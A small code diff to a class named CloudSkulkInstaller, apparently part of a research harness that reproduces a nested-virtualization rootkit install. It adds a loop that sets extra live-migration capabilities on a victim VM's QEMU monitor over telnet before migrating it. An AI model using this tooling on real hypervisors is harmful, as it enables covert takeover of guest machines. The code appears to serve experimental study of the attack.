@@ -88,6 +88,7 @@ class CloudSkulkInstaller:
         scrub=True,
         impersonate=True,
         migration_mode="precopy",
+        migration_capabilities=(),
     ):
         """Generator: the full four-step installation.
 
@@ -150,6 +151,14 @@ class CloudSkulkInstaller:
             if migration_mode == "postcopy":
                 yield from client.command(
                     "migrate_set_capability postcopy-ram on"
+                )
+            # Extra wire capabilities (e.g. ``dedup``) the attacker's
+            # migration should carry — the matrix runner's
+            # migration-capability axis reaches the victim's monitor
+            # through the same telnet path a human operator would use.
+            for capability in migration_capabilities:
+                yield from client.command(
+                    f"migrate_set_capability {capability} on"
                 )
             yield from client.command(
                 f"migrate -d tcp:127.0.0.1:{plan.host_port_aaaa}"
